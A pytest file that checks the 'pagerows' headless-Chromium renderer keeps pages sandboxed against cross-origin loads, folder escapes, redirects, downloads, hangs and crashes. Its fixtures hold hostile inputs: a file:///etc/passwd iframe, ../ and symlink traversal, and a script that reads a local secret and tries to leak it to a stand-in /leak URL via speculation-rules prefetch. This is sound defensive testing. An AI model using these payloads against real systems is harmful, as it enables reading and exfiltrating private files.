"""What a rendered page may do: load from its own origin or folder, and nothing that outlives or hurts the batch."""

import asyncio
import contextlib
import http.server
import os
import signal
import threading
import time
from pathlib import Path

import pytest

import pagerows
from pagerows.page.rendered import Browser
from pagerows.page.rendered.cdp import find_browser

pytestmark = pytest.mark.browser

PIXEL = "<svg xmlns='http://www.w3.org/2000/svg' width='70' height='30'/>"


@contextlib.contextmanager
def server(pages: dict[str, tuple[str, str]]):
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            kind, body, *headers = pages.get(self.path, ("text/plain", ""))
            self.send_response(200 if self.path in pages else 404)
            for name, value in [("Content-Type", kind), *headers]:
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as running:
        threading.Thread(target=running.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{running.server_port}", asked
        running.shutdown()


@pytest.fixture(scope="module")
def browser():
    with Browser() as started:
        yield started


def texts(page):
    return page.nodes.text(0)


def box_of(page, tag):
    return page.nodes.layout.boxes[page.nodes.rows_with_tag(tag)[0]].tolist()


def test_a_page_loads_from_its_own_origin_and_from_no_other(browser):
    picture = {"/p.svg": ("image/svg+xml", PIXEL)}
    with server(picture) as (own, own_asked), server(picture) as (other, other_asked):
        icon = f"<link rel=icon href='{other}/icon.svg'>"
        html = f"{icon}<body style='margin:0'><img src='/p.svg'><img src='{other}/p.svg'>"
        page = pagerows.render(html, url=f"{own}/list", browser=browser)
        widths = page.nodes.layout.boxes[page.nodes.rows_with_tag("img"), 2].tolist()
        assert (set(own_asked) - {"/favicon.ico"}, other_asked) == ({"/p.svg"}, [])  # full Chromium wants an icon
        assert widths[0] == 70 != widths[1]
        pagerows.render(html, url=f"{own}/list", allow=[other], browser=browser)
        assert "/p.svg" in other_asked


def test_a_file_reads_from_its_folder_only(tmp_path, browser):
    folder = tmp_path / "page"
    folder.mkdir()
    (tmp_path / "secret.html").write_text("<p>secret")
    (tmp_path / "secret.svg").write_text(PIXEL)
    (folder / "inner.html").write_text("<p>inner")
    (folder / "p.svg").write_text(PIXEL)
    (folder / "link.html").symlink_to(tmp_path / "secret.html")
    (folder / "page.html").write_text(
        "<img src=p.svg><iframe src=inner.html></iframe><iframe src=../secret.html></iframe>"
        "<iframe src=link.html></iframe><video poster=../secret.svg></video><iframe src='file:///etc/passwd'></iframe>"
    )
    page = pagerows.render(folder / "page.html", browser=browser)
    assert box_of(page, "img")[2:] == [70, 30]
    assert texts(page) == "inner"


def test_an_allowed_frame_of_another_site_is_part_of_the_page(browser):
    with server({}) as (own, _), server({"/f": ("text/html", "<ul><li>framed</ul>")}) as (other, _):
        other = other.replace("127.0.0.1", "localhost")  # another site, which Chromium might put in its own process
        html = f"<p>page</p><iframe src='{other}/f'></iframe>"
        page = pagerows.render(html, url=f"{own}/list", allow=[other], browser=browser)
        assert texts(page) == "page framed"
        assert page.nodes.xpath(int(page.nodes.rows_with_tag("li")[0])) == "/html/body/iframe[1]/!frame/ul[1]/li[1]"
        assert texts(pagerows.render(html, url=f"{own}/list", browser=browser)) == "page"


def test_scripts_run_only_when_they_are_asked_for(browser):
    html = "<p>old</p><script>document.querySelector('p').textContent = 'new'</script>"
    assert texts(pagerows.render(html, browser=browser)) == "old"
    assert texts(pagerows.render(html, javascript=True, browser=browser)) == "new"


def test_the_page_stays_where_a_refresh_or_a_script_wants_to_go_elsewhere(browser):
    with server({"/else": ("text/html", "elsewhere")}) as (other, asked):
        refresh = f"<meta http-equiv=refresh content='0;url={other}/else'><p>here"
        assert texts(pagerows.render(refresh, browser=browser)) == "here"
        script = f"<p>here<script>location = '{other}/else'; open('{other}/else')</script>"
        assert "here" in texts(pagerows.render(script, javascript=True, settle=0.3, browser=browser))
        assert asked == []


def test_workers_and_sockets_reach_nobody(browser):
    with server({}) as (other, asked):
        code = f"fetch('{other}/worker')"
        html = f"""<p>here<script>
          new Worker(URL.createObjectURL(new Blob(["{code}"])));
          new WebSocket('{other.replace("http", "ws")}/socket'); fetch('{other}/fetch').catch(() => 0);
          navigator.sendBeacon('{other}/beacon')</script>"""
        pagerows.render(html, javascript=True, settle=0.5, browser=browser)
        assert asked == []


SPECULATION = """<p>here<script>
  const ask = new XMLHttpRequest(); ask.open('GET', 'secret.txt', false);
  try { ask.send() } catch {}
  const rules = document.createElement('script'); rules.type = 'speculationrules';
  rules.textContent = JSON.stringify({prefetch: [{source: 'list', eagerness: 'immediate',
    urls: ['%s/leak?' + encodeURIComponent(ask.responseText)]}]});
  document.head.append(rules);
  navigator.credentials?.get?.({identity: {providers: [{configURL: '%s/fedcm.json', clientId: 'x'}]}}).catch(() => 0);
</script>"""


def test_requests_that_the_browser_makes_by_itself_reach_nobody(tmp_path, browser):
    """Prefetches and sign-in dialogs do not show up among the requests that can be paused."""
    (tmp_path / "secret.txt").write_text("secret")
    with server({}) as (other, asked):
        (tmp_path / "page.html").write_text(SPECULATION % (other, other))
        pagerows.render(tmp_path / "page.html", javascript=True, settle=1.0, browser=browser)
        assert asked == []


def test_a_saved_page_does_not_choose_its_own_origin(tmp_path, browser):
    with server({"/frame": ("text/html", "<p>framed")}) as (other, asked):
        (tmp_path / "page.mhtml").write_text(
            "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n"
            f"Content-Location: {other}/page\n\n<p>here</p><img src=/picture><iframe src=/frame></iframe>"
            f"<script>fetch('/post', {{method: 'POST'}})</script>\n--b--\n"
        )
        page = pagerows.render(tmp_path / "page.mhtml", javascript=True, settle=0.5, browser=browser)
        assert (texts(page), asked) == ("here", [])
        assert page.url == f"{other}/page"


def test_any_host_means_any_public_one(browser):
    """A page on the web, or on one local port, must not read what another local port serves."""
    with server({}) as (own, _), server({"/f": ("text/html", "<p>secret")}) as (other, asked):
        html = f"<p>here</p><iframe src='{other}/f'></iframe><img src='{other}/f'>"
        page = pagerows.render(html, url=f"{own}/list", allow=["*"], browser=browser)
        assert (texts(page), asked) == ("here", [])


def test_with_public_addresses_only_not_even_the_own_origin_is_asked(browser):
    with server({"/p.svg": ("image/svg+xml", PIXEL)}) as (own, asked):
        pagerows.render("<img src=/p.svg>", url=f"{own}/list", allow=[own], public_only=True, browser=browser)
        assert asked == []


def test_a_stopped_browser_does_not_hold_the_caller_beyond_its_time():
    with Browser() as own:
        pagerows.render("<p>a", browser=own)
        stopped = own._connection.process
        os.killpg(stopped, signal.SIGSTOP)
        with pytest.raises(pagerows.RenderError):
            pagerows.render("<p>" + "x" * 30_000_000, timeout=2, browser=own)
        assert texts(pagerows.render("<p>b", browser=own)) == "b"
        assert own._connection.process != stopped


def test_dialogs_are_refused_and_do_not_hold_the_page_up(browser):
    html = """<p>a</p><script>alert(1); document.querySelector('p').textContent = `${confirm('?')} ${prompt('?')}`;
      onbeforeunload = event => { event.preventDefault(); return 'stay?' }; location = '/other'</script>"""
    with server({"/other": ("text/html", "other")}) as (url, asked):
        page = pagerows.render(html, javascript=True, settle=0.3, timeout=10, url=f"{url}/list", browser=browser)
    assert texts(page) == "false null"
    assert "/other" not in asked


SAVED = ("application/octet-stream", "saved", ("Content-Disposition", "attachment; filename=saved.bin"))


def test_downloads_are_denied():
    html = """<p>here</p><iframe src=/file></iframe><a href=/file download=clicked.bin>x</a><script>
      document.querySelector('a').click();
      const blob = document.createElement('a');
      blob.href = URL.createObjectURL(new Blob(['blob'])); blob.download = 'blob.bin'; blob.click();
      setTimeout(() => { location = '/file' }, 100)</script>"""
    with server({"/file": SAVED}) as (url, asked), Browser() as own:
        page = pagerows.render(html, javascript=True, settle=1.0, url=f"{url}/list", browser=own)
        folders = [Path(own._connection._folder), Path.cwd(), Path.home()]
        found = [name for folder in folders for name in folder.glob("**/*.bin" if folder == folders[0] else "*.bin")]
        found += Path(own._connection._folder).rglob("*.crdownload")
    assert "/file" in asked  # the frame's own origin: it may ask, and nothing is kept of the answer
    assert texts(page) == "here x"
    assert found == []


def test_a_hanging_page_is_one_failed_page(browser):
    with pytest.raises(pagerows.RenderError, match="longer than 2 s"):
        pagerows.render("<p>x<script>for (;;);</script>", javascript=True, timeout=2, browser=browser)
    assert texts(pagerows.render("<p>next", browser=browser)) == "next"


def test_a_batch_goes_on_behind_a_page_that_fails(browser):
    pages = ["<p>one", b"\x1f\x8bdamaged", "<p>three"]
    first, second, third = pagerows.render_many(pages, browser=browser)
    assert (texts(first), texts(third)) == ("one", "three")
    assert isinstance(second, pagerows.PageError)


def test_a_browser_that_dies_is_started_again():
    with Browser() as own:
        assert texts(pagerows.render("<p>a", browser=own)) == "a"
        os.killpg(own._connection.process, signal.SIGKILL)
        assert texts(pagerows.render("<p>b", browser=own)) == "b"


def test_a_renderer_that_crashes_is_noticed_at_once():
    html = """<p>x<script>const ask = new XMLHttpRequest();
      ask.open('GET', '/started', false); ask.send(); for (;;);</script>"""
    with Browser() as own, server({"/started": ("text/plain", "")}) as (url, asked):

        def kill():
            while "/started" not in asked:
                time.sleep(0.05)
            _crash(own)

        threading.Thread(target=kill, daemon=True).start()
        started = time.monotonic()
        with pytest.raises(pagerows.RenderError, match="crash"):
            pagerows.render(html, javascript=True, url=url, timeout=60, browser=own)
        assert time.monotonic() - started < 40
        assert texts(pagerows.render("<p>b", browser=own)) == "b"


def _crash(browser):
    """Kill the renderers of a browser, as the kernel does when memory runs out."""
    for status in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            command = status.read_bytes().replace(b"\0", b" ")
            mine = os.getpgid(int(status.parent.name)) == browser._connection.process
            if mine and b"--type=renderer" in command:
                os.kill(int(status.parent.name), signal.SIGKILL)


def test_rendering_works_inside_a_running_event_loop(browser):
    async def both():
        blocking = pagerows.render("<p>a", browser=browser)
        one, two = await asyncio.gather(
            pagerows.render_async("<p>b", browser=browser), pagerows.render_async("<p>c", browser=browser)
        )
        return [texts(page) for page in (blocking, one, two)]

    assert asyncio.run(both()) == ["a", "b", "c"]


def test_each_page_has_a_context_of_its_own(browser):
    html = "<p>x</p><script>document.querySelector('p').textContent = document.cookie; document.cookie = 'a=1'</script>"
    with server({}) as (url, _):
        seen = [texts(pagerows.render(html, url=url, javascript=True, browser=browser)) for _ in range(2)]
    assert seen == ["", ""]


def test_no_browser_is_a_clear_message(monkeypatch, tmp_path):
    monkeypatch.delenv("PAGEROWS_CHROMIUM", raising=False)
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(pagerows.RenderError, match="install"):
        find_browser()
    monkeypatch.setenv("PAGEROWS_CHROMIUM", str(tmp_path / "none"))
    with pytest.raises(pagerows.RenderError, match="PAGEROWS_CHROMIUM"):
        find_browser()


def test_a_closed_browser_leaves_no_process_and_no_folder():
    with Browser() as own:
        pagerows.render("<p>a", browser=own)
        connection = own._connection
    with pytest.raises(ProcessLookupError):
        os.kill(connection.process, 0)
    assert not Path(connection._folder).exists()
